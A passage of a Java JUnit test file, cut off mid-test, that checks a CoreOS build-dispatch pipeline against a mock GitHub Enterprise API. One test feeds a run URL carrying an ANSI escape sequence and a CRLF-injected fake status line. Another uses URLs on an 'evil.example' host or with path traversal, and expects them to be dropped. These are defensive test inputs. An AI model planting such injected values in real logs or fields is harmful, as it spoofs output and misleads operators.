package dev.coreoswatch.pipeline;

import static com.github.tomakehurst.wiremock.client.WireMock.aResponse;
import static com.github.tomakehurst.wiremock.client.WireMock.equalTo;
import static com.github.tomakehurst.wiremock.client.WireMock.equalToJson;
import static com.github.tomakehurst.wiremock.client.WireMock.get;
import static com.github.tomakehurst.wiremock.client.WireMock.getRequestedFor;
import static com.github.tomakehurst.wiremock.client.WireMock.okJson;
import static com.github.tomakehurst.wiremock.client.WireMock.post;
import static com.github.tomakehurst.wiremock.client.WireMock.postRequestedFor;
import static com.github.tomakehurst.wiremock.client.WireMock.urlPathEqualTo;
import static com.github.tomakehurst.wiremock.core.WireMockConfiguration.options;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.github.tomakehurst.wiremock.WireMockServer;
import com.github.tomakehurst.wiremock.http.Fault;
import com.github.tomakehurst.wiremock.stubbing.Scenario;
import dev.coreoswatch.config.BuildPolicy;
import dev.coreoswatch.decision.TargetState;
import dev.coreoswatch.github.DispatchOutcome;
import dev.coreoswatch.github.GitHubApi;
import dev.coreoswatch.github.WorkflowDispatchClient;
import dev.coreoswatch.github.WorkflowInputs;
import dev.coreoswatch.github.WorkflowRuns;
import dev.coreoswatch.http.Http;
import dev.coreoswatch.http.RetryPolicy;
import dev.coreoswatch.http.RetryingHttp;
import dev.coreoswatch.http.UrlConnectionHttp;
import dev.coreoswatch.ledger.FileLedger;
import dev.coreoswatch.ledger.LedgerKey;
import dev.coreoswatch.ledger.LedgerStatus;
import dev.coreoswatch.model.Action;
import dev.coreoswatch.model.Arch;
import dev.coreoswatch.model.ArchResult;
import dev.coreoswatch.model.Compatibility;
import dev.coreoswatch.model.Decision;
import dev.coreoswatch.model.DispatchResult;
import dev.coreoswatch.model.DispatchStatus;
import dev.coreoswatch.model.ImageLabels;
import dev.coreoswatch.model.Secret;
import java.io.ByteArrayOutputStream;
import java.io.PrintStream;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.URI;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Clock;
import java.time.Duration;
import java.time.Instant;
import java.time.ZoneId;
import java.time.ZoneOffset;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.function.UnaryOperator;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Dispatch exactly once, against a WireMock GitHub under an Enterprise-style base path. */
class DispatchTest {
    private static final String TOKEN = "ghp_CANARY0dispatch0token0must0never0show";
    private static final String REPO = "acme/fcos-builds";
    private static final String DISPATCHES = "/api/v3/repos/acme/fcos-builds/actions/workflows/build.yaml/dispatches";
    private static final String RUNS = "/api/v3/repos/acme/fcos-builds/actions/workflows/build.yaml/runs";
    private static final String IMAGE = "ghcr.io/acme/custom-coreos";
    /** target.tag {@code {stream}-zfs}: the tag input is the inspected tag, not the stream. */
    private UnaryOperator<String> tagForStream = stream -> stream + "-zfs";

    private static final String TITLE = "build testing 43.20260316.2.1 zfs 2.3.7";

    private static WireMockServer github;

    @TempDir
    Path state;

    private final List<Duration> waits = new CopyOnWriteArrayList<>();
    /** What the follower reads from the target image; the registry itself is exercised in the registry tests. */
    private ImageRead image = lacking(false);

    private final List<BuildCompletion> told = new CopyOnWriteArrayList<>();
    private Instant now = Instant.parse("2026-03-20T08:00:00Z");

    @BeforeAll
    static void start() {
        github = new WireMockServer(options().bindAddress("127.0.0.1").dynamicPort());
        github.start();
    }

    @AfterAll
    static void stop() {
        github.stop();
    }

    @BeforeEach
    void reset() {
        github.resetAll();
        github.stubFor(get(urlPathEqualTo(RUNS)).willReturn(okJson("{\"total_count\":0,\"workflow_runs\":[]}")));
    }

    private Dispatch dispatch(Duration readTimeout) {
        Clock clock = new Clock() {
            @Override
            public ZoneOffset getZone() {
                return ZoneOffset.UTC;
            }

            @Override
            public Clock withZone(ZoneId zone) {
                return this;
            }

            @Override
            public Instant instant() {
                return now;
            }
        };
        RetryPolicy policy = new RetryPolicy(
                3, Duration.ofMillis(1), Duration.ofMillis(2), Duration.ofSeconds(30), Duration.ofMinutes(5));
        Http http = new RetryingHttp(
                new UrlConnectionHttp(new Http.Limits(Duration.ofSeconds(2), readTimeout, 1 << 20)),
                policy,
                clock,
                waits::add);
        GitHubApi api =
                new GitHubApi(http, URI.create(github.baseUrl() + "/api/v3"), () -> Optional.of(new Secret(TOKEN)));
        return new Dispatch(
                Optional.of(new FileLedger(state)),
                new WorkflowDispatchClient(api),
                new WorkflowRuns(api),
                Optional.of(new WorkflowTarget(REPO, "build.yaml", "main")),
                Duration.ofHours(3),
                clock,
                tagForStream,
                BuildPolicy.DEFAULT,
                (stream, arches) -> image,
                told::add);
    }

    private Dispatch dispatch() {
        return dispatch(Duration.ofSeconds(5));
    }

    private static Decision build() {
        return new Decision(
                "testing",
                "43.20260316.2.1",
                "2.3.7",
                Action.BUILD,
                "linux/amd64 of ghcr.io/acme/custom-coreos:testing carries coreos 43.20260302.2.0",
                List.of(
                        new ArchResult(
                                Arch.X86_64,
                                "6.19.6-200.fc43.x86_64",
                                Compatibility.COMPATIBLE,
                                "4.18-7.0",
                                null,
                                false),
                        new ArchResult(Arch.AARCH64, null, Compatibility.UNKNOWN, "4.18-7.0", null, false)),
                DispatchResult.NONE,
                List.of());
    }

    private static LedgerKey key() {
        return LedgerKey.of(IMAGE, "testing", "43.20260316.2.1", "2.3.7");
    }

    private static String runsWith(String status) {
        return "{\"total_count\":2,\"workflow_runs\":[{\"id\":777,\"name\":\"build\",\"display_title\":\"build stable 44.1 zfs 2.4.4\","
                + "\"status\":\"completed\",\"conclusion\":\"success\",\"html_url\":\"https://github.com/acme/fcos-builds/actions/runs/777\","
                + "\"created_at\":\"2026-03-01T08:00:00Z\",\"updated_at\":\"2026-03-01T09:00:00Z\"},"
                + "{\"id\":31337,\"name\":\"build\",\"display_title\":\"" + TITLE + "\",\"status\":\"" + status + "\","
                + "\"conclusion\":null,\"html_url\":\"https://github.com/acme/fcos-builds/actions/runs/31337\","
                + "\"created_at\":\"2026-03-20T08:00:20Z\",\"updated_at\":\"2026-03-20T08:01:00Z\"}]}";
    }

    @Test
    void sendsExactlyTheContractBodyAndHeadersAndRecordsTheRun() {
        github.stubFor(post(urlPathEqualTo(DISPATCHES))
                .willReturn(okJson(
                        "{\"workflow_run_id\":4242,\"run_url\":\"https://api.github.com/repos/acme/fcos-builds/actions/runs/4242\","
                                + "\"html_url\":\"" + github.baseUrl() + "/acme/fcos-builds/actions/runs/4242\"}")));
        Dispatch.Result result = dispatch().dispatch(build(), IMAGE, false, "corr-1");

        assertEquals(Action.BUILD, result.decision().action());
        // The API is an Enterprise Server at <base>/api/v3, so its runs live at
        // <base>/<owner>/<repo>/actions/runs/<id>.
        assertEquals(
                new DispatchResult(
                        DispatchStatus.DISPATCHED, 4242L, github.baseUrl() + "/acme/fcos-builds/actions/runs/4242"),
                result.decision().dispatch());
        github.verify(
                1,
                postRequestedFor(urlPathEqualTo(DISPATCHES))
                        .withHeader("Authorization", equalTo("Bearer " + TOKEN))
                        .withHeader("X-GitHub-Api-Version", equalTo("2022-11-28"))
                        .withHeader("Accept", equalTo("application/vnd.github+json"))
                        .withHeader("Content-Type", equalTo("application/json"))
                        .withRequestBody(equalToJson("{\"ref\":\"main\",\"return_run_details\":true,\"inputs\":{"
                                + "\"stream\":\"testing\",\"coreos_version\":\"43.20260316.2.1\",\"zfs_version\":\"2.3.7\","
                                + "\"kernel_versions\":\"x86_64=6.19.6-200.fc43.x86_64,aarch64=unknown\","
                                + "\"platforms\":\"linux/amd64,linux/arm64\","
                                + "\"reason\":\"linux/amd64 of ghcr.io/acme/custom-coreos:testing carries coreos 43.20260302.2.0\","
                                + "\"image\":\"ghcr.io/acme/custom-coreos\",\"tag\":\"testing-zfs\"}}")));
        var entry = new FileLedger(state).find(key()).orElseThrow();
        assertEquals(LedgerStatus.DISPATCHED, entry.status());
        assertEquals(4242L, entry.runId());
    }

    /** D2: an html_url with escape sequences and a forged line is neither reported nor stored. */
    @Test
    void aRunUrlOutsideGitHubsShapeIsDropped() {
        String forged = github.baseUrl() + "/acme/fcos-builds/actions/runs/4242\u001b[2K\r\nstable: SKIP";
        github.stubFor(post(urlPathEqualTo(DISPATCHES))
                .willReturn(okJson("{\"workflow_run_id\":4242,\"html_url\":\""
                        + forged.replace("\u001b", "\\u001b").replace("\r\n", "\\r\\n") + "\"}")));
        Dispatch.Result result = dispatch().dispatch(build(), IMAGE, false, "corr-1");

        assertEquals(
                new DispatchResult(DispatchStatus.DISPATCHED, 4242L, null),
                result.decision().dispatch());
        var entry = new FileLedger(state).find(key()).orElseThrow();
        assertEquals(4242L, entry.runId());
        assertNull(entry.runUrl());
    }

    /** D2: another repository's run, or a run URL on another host, is not taken either. */
    @Test
    void aRunUrlOfAnotherRepositoryOrHostIsDropped() {
        for (String url : List.of(
                github.baseUrl() + "/evil/fcos-builds/actions/runs/4242",
                "https://evil.example/acme/fcos-builds/actions/runs/4242",
                github.baseUrl() + "/acme/fcos-builds/actions/runs/4243",
                github.baseUrl() + "/acme/fcos-builds/actions/runs/4242/../../x")) {
            github.resetAll();
            github.stubFor(post(urlPathEqualTo(DISPATCHES))
                    .willReturn(okJson("{\"workflow_run_id\":4242,\"html_url\":\"" + url + "\"}")));
            assertNull(
                    dispatch()
                            .dispatch(build(), IMAGE, false, "c")
                            .decision()
                            .dispatch()
                            .runUrl(),
                    url);
            new FileLedger(state).release(key());
        }
    }

    @Test
    void theSameCombinationRightAfterIsInFlightAndSendsNothing() {
        github.stubFor(post(urlPathEqualTo(DISPATCHES)).willReturn(aResponse().withStatus(204)));
        assertEquals(
                DispatchStatus.DISPATCHED,
                dispatch()
                        .dispatch(build(), IMAGE, false, "c")
                        .decision()
                        .dispatch()
                        .status());
        now = now.plus(Duration.ofMinutes(30));

        Dispatch.Result again = dispatch().dispatch(build(), IMAGE, false, "c");
        assertEquals(Action.IN_FLIGHT, again.decision().action());
        assertEquals(DispatchStatus.NONE, again.decision().dispatch().status());
        github.verify(1, postRequestedFor(urlPathEqualTo(DISPATCHES)));
        assertNull(again.decision().dispatch().runId(), "a 204 gives no run id and none is listed");
    }

    @Test
    void afterTheWindowTheCombinationCanBeDispatchedAgain() {
        github.stubFor(post(urlPathEqualTo(DISPATCHES)).willReturn(aResponse().withStatus(204)));
        dispatch().dispatch(build(), IMAGE, false, "c");
        now = now.plus(Duration.ofHours(3)).plusSeconds(1);
        assertEquals(
                DispatchStatus.DISPATCHED,
                dispatch()
                        .dispatch(build(), IMAGE, false, "c")
                        .decision()
                        .dispatch()
                        .status());
        github.verify(2, postRequestedFor(urlPathEqualTo(DISPATCHES)));
    }

    @Test
    void notFoundIsAConfigurationErrorNamingRepositoryAndWorkflowAndTheClaimIsReleased() {
        github.stubFor(
                post(urlPathEqualTo(DISPATCHES))
                        .willReturn(
                                aResponse()
                                        .withStatus(404)
                                        .withHeader("Content-Type", "application/json")
                                        .withBody(
                                                "{\"message\":\"Not Found\",\"documentation_url\":\"https://docs.github.com/rest/actions/workflows#create-a-workflow-dispatch-event\",\"status\":\"404\"}")));
        Dispatch.Result result = dispatch().dispatch(build(), IMAGE, false, "c");
        assertEquals(DispatchStatus.FAILED, result.decision().dispatch().status());
        String message = result.error().orElseThrow();
        assertTrue(message.contains(REPO) && message.contains("build.yaml") && message.contains("Not Found"), message);
        assertTrue(new FileLedger(state).find(key()).isEmpty(), "a definite failure frees the combination");
    }

    @Test
    void unexpectedInputsAre422WithGitHubsMessageAndALaterRunTriesAgain() {
        github.stubFor(post(urlPathEqualTo(DISPATCHES))
                .inScenario("fix")
                .whenScenarioStateIs(Scenario.STARTED)
                .willReturn(
                        aResponse()
                                .withStatus(422)
                                .withHeader("Content-Type", "application/json")
                                .withBody(
                                        "{\"message\":\"Unexpected inputs provided: [\\\"kernel_versions\\\"]\",\"documentation_url\":"
                                                + "\"https://docs.github.com/rest/actions/workflows#create-a-workflow-dispatch-event\",\"status\":\"422\"}"))
                .willSetStateTo("fixed"));
        github.stubFor(post(urlPathEqualTo(DISPATCHES))
                .inScenario("fix")
                .whenScenarioStateIs("fixed")
                .willReturn(aResponse().withStatus(204)));
        Dispatch.Result first = dispatch().dispatch(build(), IMAGE, false, "c");
        assertEquals(DispatchStatus.FAILED, first.decision().dispatch().status());
        assertTrue(
                first.error().orElseThrow().contains("Unexpected inputs provided"),
                first.error().get());

        Dispatch.Result second = dispatch().dispatch(build(), IMAGE, false, "c");
        assertEquals(DispatchStatus.DISPATCHED, second.decision().dispatch().status());
    }

    @Test
    void tooManyRequestsWaitsAsToldThenDispatches() {
        github.stubFor(post(urlPathEqualTo(DISPATCHES))
                .inScenario("429")
                .whenScenarioStateIs(Scenario.STARTED)
                .willReturn(aResponse().withStatus(429).withHeader("retry-after", "7"))
                .willSetStateTo("ok"));
        github.stubFor(post(urlPathEqualTo(DISPATCHES))
                .inScenario("429")
                .whenScenarioStateIs("ok")
                .willReturn(aResponse().withStatus(204)));
        assertEquals(
                DispatchStatus.DISPATCHED,
                dispatch()
                        .dispatch(build(), IMAGE, false, "c")
                        .decision()
                        .dispatch()
                        .status());
        assertEquals(List.of(Duration.ofSeconds(7)), waits);
    }

    @Test
    void spentPrimaryRateLimitWaitsUntilResetWithinTheBudget() {
        long reset = now.plusSeconds(12).getEpochSecond();
        github.stubFor(post(urlPathEqualTo(DISPATCHES))
                .inScenario("403")
                .whenScenarioStateIs(Scenario.STARTED)
                .willReturn(
                        aResponse()
                                .withStatus(403)
                                .withHeader("x-ratelimit-remaining", "0")
                                .withHeader("x-ratelimit-reset", String.valueOf(reset))
                                .withHeader("Content-Type", "application/json")
                                .withBody(
                                        "{\"message\":\"API rate limit exceeded for installation ID 61626.\",\"status\":\"403\"}"))
                .willSetStateTo("ok"));
        github.stubFor(post(urlPathEqualTo(DISPATCHES))
                .inScenario("403")
                .whenScenarioStateIs("ok")
                .willReturn(aResponse().withStatus(204)));
        assertEquals(
                DispatchStatus.DISPATCHED,
                dispatch()
                        .dispatch(build(), IMAGE, false, "c")
                        .decision()
                        .dispatch()
                        .status());
        assertEquals(List.of(Duration.ofSeconds(13)), waits);
    }

    @Test
    void rateLimitBeyondTheBudgetGivesUpAndReleasesTheClaim() {
        github.stubFor(post(urlPathEqualTo(DISPATCHES))
                .willReturn(aResponse()
                        .withStatus(403)
                        .withHeader("x-ratelimit-remaining", "0")
                        .withHeader(
                                "x-ratelimit-reset",
                                String.valueOf(now.plusSeconds(3600).getEpochSecond()))
                        .withHeader("Content-Type", "application/json")
                        .withBody("{\"message\":\"API rate limit exceeded\",\"status\":\"403\"}")));
        Dispatch.Result result = dispatch().dispatch(build(), IMAGE, false, "c");
        assertEquals(DispatchStatus.FAILED, result.decision().dispatch().status());
        assertTrue(
                result.error().orElseThrow().contains("rate limit"),
                result.error().get());
        github.verify(1, postRequestedFor(urlPathEqualTo(DISPATCHES)));
        assertTrue(new FileLedger(state).find(key()).isEmpty());
    }

    @Test
    void serverErrorIsAmbiguousAndTheNextRunFindsTheRunInsteadOfDispatchingAgain() {
        github.stubFor(post(urlPathEqualTo(DISPATCHES))
                .willReturn(aResponse().withStatus(502).withBody("<html>Bad gateway</html>")));
        Dispatch.Result first = dispatch().dispatch(build(), IMAGE, false, "c");
        assertEquals(DispatchStatus.FAILED, first.decision().dispatch().status());
        assertEquals(
                LedgerStatus.UNCERTAIN,
                new FileLedger(state).find(key()).orElseThrow().status());
        github.verify(1, postRequestedFor(urlPathEqualTo(DISPATCHES))); // a POST is never retried on 5xx

        github.stubFor(get(urlPathEqualTo(RUNS)).willReturn(okJson(runsWith("in_progress"))));
        now = now.plus(Duration.ofMinutes(15));
        Dispatch.Result second = dispatch().dispatch(build(), IMAGE, false, "c");
        assertEquals(Action.IN_FLIGHT, second.decision().action());
        assertEquals(31337L, second.decision().dispatch().runId());
        github.verify(1, postRequestedFor(urlPathEqualTo(DISPATCHES)));
        assertEquals(31337L, new FileLedger(state).find(key()).orElseThrow().runId(), "the found run is recorded");
    }

    @Test
    void readTimeoutIsAmbiguousToo() {
        github.stubFor(post(urlPathEqualTo(DISPATCHES))
                .willReturn(aResponse().withStatus(204).withFixedDelay(1500)));
        Dispatch.Result first = dispatch(Duration.ofMillis(300)).dispatch(build(), IMAGE, false, "c");
        assertEquals(DispatchStatus.FAILED, first.decision().dispatch().status());
        assertTrue(
                first.error().orElseThrow().contains("a run may have started"),
                first.error().get());
        assertEquals(
                LedgerStatus.UNCERTAIN,
                new FileLedger(state).find(key()).orElseThrow().status());

        github.resetRequests();
        github.stubFor(get(urlPathEqualTo(RUNS)).willReturn(okJson(runsWith("queued"))));
        Dispatch.Result second = dispatch().dispatch(build(), IMAGE, false, "c");
        assertEquals(Action.IN_FLIGHT, second.decision().action());
        github.verify(0, postRequestedFor(urlPathEqualTo(DISPATCHES)));
    }

    @Test
    void connectionResetAfterSendingIsAmbiguous() {
        github.stubFor(
                post(urlPathEqualTo(DISPATCHES)).willReturn(aResponse().withFault(Fault.CONNECTION_RESET_BY_PEER)));
        Dispatch.Result result = dispatch().dispatch(build(), IMAGE, false, "c");
        assertEquals(DispatchStatus.FAILED, result.decision().dispatch().status());
        assertEquals(
                LedgerStatus.UNCERTAIN,
                new FileLedger(state).find(key()).orElseThrow().status());
    }

    @Test
    void aRunInFlightWithoutAnyLedgerEntryStillBlocksTheDispatch() {
        github.stubFor(get(urlPathEqualTo(RUNS)).willReturn(okJson(runsWith("in_progress"))));
        Dispatch.Result result = dispatch().dispatch(build(), IMAGE, false, "c");
        assertEquals(Action.IN_FLIGHT, result.decision().action());
        assertEquals(DispatchStatus.NONE, result.decision().dispatch().status());
        github.verify(0, postRequestedFor(urlPathEqualTo(DISPATCHES)));
    }

    private static final String RUN_PATH = "/api/v3/repos/acme/fcos-builds/actions/runs/";

    private static ImageRead lacking(boolean notVisible) {
        return new ImageRead(
                new TargetState(
                        IMAGE + ":testing",
                        Map.of(),
                        Optional.of(
                                notVisible
                                        ? "ghcr.io denied the anonymous read (not visible anonymously)"
                                        : "tag testing not found"),
                        notVisible),
                Map.of());
    }

    private static ImageRead carrying() {
        ImageLabels labels = new ImageLabels("43.20260316.2.1", "2.3.7", null);
        return new ImageRead(
                new TargetState(
                        IMAGE + ":testing", Map.of(Arch.X86_64, labels, Arch.AARCH64, labels), Optional.empty()),
                Map.of(Arch.X86_64, "sha256:" + "a".repeat(64), Arch.AARCH64, "sha256:" + "b".repeat(64)));
    }

    /** A run as {@code GET /repos/{o}/{r}/actions/runs/{id}} and the runs list give it (the fields GitHub sends that we read, and some we do not). */
    private static String run(long id, String status, String conclusion, Instant created, Instant updated) {
        return "{\"id\":" + id
                + ",\"name\":\"build\",\"node_id\":\"WFR_kwLOx\",\"head_branch\":\"main\",\"run_number\":" + (id % 1000)
                + ",\"event\":\"workflow_dispatch\",\"display_title\":\"" + TITLE + "\",\"status\":\"" + status
                + "\",\"conclusion\":"
                + (conclusion == null ? "null" : "\"" + conclusion + "\"")
                + ",\"workflow_id\":161335,\"url\":\"https://api.github.com/repos/"
                + REPO + "/actions/runs/" + id + "\",\"html_url\":\"" + github.baseUrl() + "/" + REPO + "/actions/runs/"
                + id + "\",\"created_at\":\""
                + created + "\",\"updated_at\":\"" + updated + "\",\"run_attempt\":1,\"run_started_at\":\"" + created
                + "\"}";
    }

    private void stubRun(long id, String status, String conclusion, Instant created, Instant updated) {
        github.stubFor(
                get(urlPathEqualTo(RUN_PATH + id)).willReturn(okJson(run(id, status, conclusion, created, updated))));
    }

    private void stubJobs(long id) {
        github.stubFor(get(urlPathEqualTo(RUN_PATH + id + "/jobs"))
                .willReturn(okJson("{\"total_count\":2,\"jobs\":["
                        + "{\"id\":1,\"run_id\":" + id
                        + ",\"name\":\"build (linux/amd64)\",\"status\":\"completed\",\"conclusion\":\"success\"},"
                        + "{\"id\":2,\"run_id\":" + id
                        + ",\"name\":\"build (linux/arm64)\",\"status\":\"completed\",\"conclusion\":\"failure\","
                        + "\"html_url\":\"" + github.baseUrl() + "/" + REPO + "/actions/runs/" + id + "/job/2\"}]}")));
    }

    private void dispatchesRuns(long... ids) {
        for (int i = 0; i < ids.length; i++) {
            var stub = post(urlPathEqualTo(DISPATCHES))
                    .inScenario("runs")
                    .whenScenarioStateIs(i == 0 ? Scenario.STARTED : "run" + i)
                    .willReturn(okJson("{\"workflow_run_id\":" + ids[i] + ",\"run_url\":\"https://api.github.com/repos/"
                            + REPO + "/actions/runs/" + ids[i] + "\",\"html_url\":\"" + github.baseUrl() + "/" + REPO
                            + "/actions/runs/" + ids[i] + "\"}"));
            github.stubFor(i + 1 < ids.length ? stub.willSetStateTo("run" + (i + 1)) : stub);
        }
    }

    private Decision skip() {
        return build().withAction(
                        Action.SKIP, IMAGE + ":testing already carries coreos 43.20260316.2.1 with zfs 2.3.7");
    }

    @Test
    void aSuccessfulRunIsVerifiedAndToldOnceHoweverManyChecksFollow() {
        dispatchesRuns(5150);
        Instant dispatched = now;
        dispatch().dispatch(build(), IMAGE, false, "c");
        stubRun(5150, "completed", "success", dispatched, dispatched.plus(Duration.ofMinutes(40)));
        image = carrying();

        for (int check = 0; check < 3; check++) {
            now = now.plus(Duration.ofMinutes(30));
            dispatch().follow(skip(), IMAGE, false);
        }

        assertEquals(1, told.size(), told.toString());
        BuildCompletion built = told.get(0);
        assertTrue(built.verified());
        assertEquals(1, built.attempt());
        assertEquals("success", built.conclusion());
        assertEquals(github.baseUrl() + "/acme/fcos-builds/actions/runs/5150", built.runUrl());
        assertEquals(dispatched.plus(Duration.ofMinutes(40)), built.completedAt());
        assertEquals("sha256:" + "b".repeat(64), built.digests().get(Arch.AARCH64));
        var entry = new FileLedger(state).find(key()).orElseThrow();
        assertEquals(LedgerStatus.VERIFIED, entry.status());
        assertTrue(entry.outcomeNotified());
    }

    @Test
    void aFailedRunIsRetriedAtOnceThenHeldNamingTheRunUntilReleased() {
        dispatchesRuns(5150, 5151, 5152);
        Instant first = now;
        dispatch().dispatch(build(), IMAGE, false, "c");
        stubRun(5150, "completed", "failure", first, first.plus(Duration.ofMinutes(20)));
        stubJobs(5150);

        now = now.plus(Duration.ofMinutes(30));
        Dispatch.Result second = dispatch().dispatch(build(), IMAGE, false, "c");
        assertEquals(Action.BUILD, second.decision().action(), second.decision().reason());
        assertEquals(
                5151L,
                second.decision().dispatch().runId(),
                "a failed attempt frees the combination without waiting for the window");
        assertEquals(1, told.size());
        assertFalse(told.get(0).verified());
        assertEquals("failure", told.get(0).conclusion());
        assertEquals("build (linux/arm64) (failure)", told.get(0).failedJob());
        assertEquals(1, told.get(0).attempt());

        Instant secondAt = now;
        stubRun(5151, "completed", "cancelled", secondAt, secondAt.plus(Duration.ofMinutes(5)));
        stubJobs(5151);
        now = now.plus(Duration.ofMinutes(30));
        Dispatch.Result held = dispatch().dispatch(build(), IMAGE, false, "c");
        assertEquals(Action.HOLD, held.decision().action());
        assertTrue(
                held.decision().reason().contains(github.baseUrl() + "/acme/fcos-builds/actions/runs/5151")
                        && held.decision().reason().contains("dispatch.max-attempts is 2"),
                held.decision().reason());
        now = now.plus(Duration.ofHours(5));
        assertEquals(
                Action.HOLD,
                dispatch().dispatch(build(), IMAGE, false, "c").decision().action(),
                "held beyond the window too");
        github.verify(2, postRequestedFor(urlPathEqualTo(DISPATCHES)));
        assertEquals(2, told.size(), "one outcome per attempt, none twice");

        new FileLedger(state).release(key()); // what release-hold does
        Dispatch.Result released = dispatch().dispatch(build(), IMAGE, false, "c");
        assertEquals(5152L, released.decision().dispatch().runId());
        github.verify(3, postRequestedFor(urlPathEqualTo(DISPATCHES)));
    }

    @Test
    void aSuccessWithoutTheLabelsWaitsOutTheGraceThenCountsAsAFailedAttempt() {
        dispatchesRuns(5150, 5151);
        Instant first = now;
        dispatch().dispatch(build(), IMAGE, false, "c");
        Instant completed = first.plus(Duration.ofMinutes(40));
        stubRun(5150, "completed", "success", first, completed);

        now = completed.plus(Duration.ofMinutes(10));
        Dispatch.Result waiting = dispatch().dispatch(build(), IMAGE, false, "c");
        assertEquals(Action.IN_FLIGHT, waiting.decision().action());
        assertTrue(
                waiting.decision().reason().contains("dispatch.verify-grace PT15M"),
                waiting.decision().reason());
        assertTrue(told.isEmpty());

        now = completed.plus(Duration.ofMinutes(16));
        Dispatch.Result retried = dispatch().dispatch(build(), IMAGE, false, "c");
        assertEquals(5151L, retried.decision().dispatch().runId());
        assertEquals(1, told.size());
        assertFalse(told.get(0).verified());
        assertEquals("success", told.get(0).conclusion());
        assertTrue(
                told.get(0).why().contains("still lacks the labels"),
                told.get(0).why());
        github.verify(0, getRequestedFor(urlPathEqualTo(RUN_PATH + "5150/jobs")));
    }

    @Test
    void anOlderCompletedRunOfTheSameTitleIsHistoryNotTheRunOfA204Dispatch() {
        github.stubFor(post(urlPathEqualTo(DISPATCHES)).willReturn(aResponse().withStatus(204)));
        Instant claimed = now;
        dispatch().dispatch(build(), IMAGE, false, "c");
        github.stubFor(get(urlPathEqualTo(RUNS))
                .willReturn(okJson("{\"total_count\":1,\"workflow_runs\":["
                        + run(
                                4000,
                                "completed",
                                "failure",
                                claimed.minus(Duration.ofDays(2)),
                                claimed.minus(Duration.ofDays(2)).plusSeconds(900))
                        + "]}")));

        now = now.plus(Duration.ofMinutes(30));
        Dispatch.Result result = dispatch().dispatch(build(), IMAGE, false, "c");

        assertEquals(
                Action.IN_FLIGHT, result.decision().action(), result.decision().reason());
        assertNull(result.decision().dispatch().runId());
        assertTrue(told.isEmpty(), "no false 'failed' outcome");
        assertNull(new FileLedger(state).find(key()).orElseThrow().runId(), "the old run is never bound to the claim");
    }

    @Test
    void theRunOfA204DispatchIsFoundByTitleAmongRunsCreatedSinceTheClaim() {
        github.stubFor(post(urlPathEqualTo(DISPATCHES)).willReturn(aResponse().withStatus(204)));
        Instant claimed = now;
        dispatch().dispatch(build(), IMAGE, false, "c");
        github.stubFor(get(urlPathEqualTo(RUNS))
                .willReturn(okJson("{\"total_count\":2,\"workflow_runs\":["
                        + run(6001, "completed", "failure", claimed.plusSeconds(3), claimed.plus(Duration.ofMinutes(9)))
                        + ","
                        + run(
                                4000,
                                "completed",
                                "success",
                                claimed.minus(Duration.ofDays(2)),
                                claimed.minus(Duration.ofDays(2)))
                        + "]}")));
        stubJobs(6001);
        github.stubFor(post(urlPathEqualTo(DISPATCHES)).willReturn(aResponse().withStatus(204)));

        now = now.plus(Duration.ofMinutes(30));
        dispatch().dispatch(build(), IMAGE, false, "c");

        assertEquals(1, told.size());
        assertEquals(6001L, told.get(0).runId());
        assertEquals("failure", told.get(0).conclusion());
    }

    @Test
    void anUncertainDispatchWhoseRunIsFoundCompletedAndFailedIsAFailedAttemptTooAndTheNextIsDispatched() {
        github.stubFor(post(urlPathEqualTo(DISPATCHES))
                .inScenario("502")
                .whenScenarioStateIs(Scenario.STARTED)
                .willReturn(aResponse().withStatus(502).withBody("<html>Bad gateway</html>"))
                .willSetStateTo("ok"));
        github.stubFor(post(urlPathEqualTo(DISPATCHES))
                .inScenario("502")
                .whenScenarioStateIs("ok")
                .willReturn(okJson("{\"workflow_run_id\":7002,\"html_url\":\"" + github.baseUrl()
                        + "/acme/fcos-builds/actions/runs/7002\"}")));
        Instant claimed = now;
        dispatch().dispatch(build(), IMAGE, false, "c");
        assertEquals(
                LedgerStatus.UNCERTAIN,
                new FileLedger(state).find(key()).orElseThrow().status());
        github.stubFor(get(urlPathEqualTo(RUNS))
                .willReturn(okJson("{\"total_count\":1,\"workflow_runs\":["
                        + run(7001, "completed", "failure", claimed.plusSeconds(2), claimed.plus(Duration.ofMinutes(7)))
                        + "]}")));
        stubJobs(7001);

        now = now.plus(Duration.ofMinutes(30));
        Dispatch.Result result = dispatch().dispatch(build(), IMAGE, false, "c");

        assertEquals(
                7002L, result.decision().dispatch().runId(), result.decision().reason());
        assertEquals(1, told.size());
        assertEquals(7001L, told.get(0).runId());
        assertEquals("build (linux/arm64) (failure)", told.get(0).failedJob());
    }

    @Test
    void aSucceededRunWhoseImageIsNotVisibleIsAnErrorNeverASecondDispatch() {
        dispatchesRuns(5150, 5151);
        image = lacking(true);
        Instant first = now;
        assertEquals(
                DispatchStatus.DISPATCHED,
                dispatch()
                        .dispatch(build(), IMAGE, false, "c")
                        .decision()
                        .dispatch()
                        .status(),
                "the first build of a package nobody can see yet is dispatched");
        stubRun(5150, "completed", "success", first, first.plus(Duration.ofMinutes(40)));

        for (Duration later : List.of(Duration.ofHours(1), Duration.ofHours(4), Duration.ofDays(2))) {
            now = first.plus(later);
            Dispatch.Result result = dispatch().dispatch(build(), IMAGE, false, "c");
            assertEquals(
                    Action.ERROR,
                    result.decision().action(),
                    later + ": " + result.decision().reason());
            assertTrue(
                    result.decision()
                            .reason()
                            .startsWith("the build succeeded but " + IMAGE + " is not readable anonymously:"
                                    + " make the package public or configure registry credentials"),
                    result.decision().reason());
        }
        github.verify(1, postRequestedFor(urlPathEqualTo(DISPATCHES)));
        assertTrue(told.isEmpty());
    }

    @Test
    void anOutcomeThatCouldNotBeToldIsToldByTheNextCheckAndNotAgain() {
        dispatchesRuns(5150, 5151);
        Instant first = now;
        dispatch().dispatch(build(), IMAGE, false, "c");
        stubRun(5150, "completed", "failure", first, first.plus(Duration.ofMinutes(20)));
        stubJobs(5150);
